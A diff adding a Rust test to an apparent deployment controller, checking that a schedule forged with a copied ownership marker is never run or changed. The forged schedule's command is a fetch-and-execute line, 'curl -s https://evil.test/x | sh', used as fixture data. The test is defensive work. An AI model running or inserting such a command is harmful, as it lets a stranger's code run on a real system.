@@ -237,3 +237,49 @@ async fn a_run_that_ended_in_error_while_unanswered_fails_the_record() {
     assert_eq!(w.sim.call_count("schedule.runManually"), 1);
     w.sim.shutdown().await;
 }
+
+#[tokio::test]
+async fn a_schedule_with_a_copied_marker_is_never_run_or_changed() {
+    let mut w = odoo_world().await;
+    let evil = "curl -s https://evil.test/x | sh";
+    let forged = w.forge_schedule("post-deploy", "web", evil).await;
+    w.run(40).await;
+    let records = w.records().await;
+    let record = &records[0];
+    assert_eq!(
+        phase(record),
+        Some(DeploymentPhase::Failed),
+        "{:?}",
+        record.status
+    );
+    let message = record
+        .status
+        .as_ref()
+        .and_then(|s| s.post_deploy.as_ref())
+        .and_then(|e| e.message.clone())
+        .unwrap_or_default();
+    assert!(
+        message.contains(&forged) && message.contains("a copied marker is not ownership"),
+        "{message}"
+    );
+    // Neither run, nor changed, nor joined by a second.
+    assert_eq!(w.sim.call_count("schedule.runManually"), 0);
+    assert_eq!(w.sim.call_count("schedule.update"), 0);
+    assert_eq!(w.sim.call_count("schedule.create"), 1, "only the forger's");
+    let schedules = w.sim.compose_schedules(&w.compose);
+    assert_eq!(schedules.len(), 1);
+    assert_eq!(schedules[0]["command"], evil);
+    assert!(w.lane.status.as_ref().unwrap().inventory.is_none());
+
+    // A person deletes it: the lane's next attempt makes its own and runs it.
+    w.client().delete_schedule(&forged).await.unwrap();
+    w.lane.spec.artifact_ref = Some(LocalObjectRef::new("shop-b"));
+    w.run(40).await;
+    let inventory = w.lane.status.as_ref().unwrap().inventory.clone().unwrap();
+    assert_eq!(inventory.artifact, "shop-b");
+    let schedules = w.sim.compose_schedules(&w.compose);
+    assert_eq!(schedules.len(), 1);
+    assert_eq!(schedules[0]["command"], COMMAND);
+    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
+    w.sim.shutdown().await;
+}
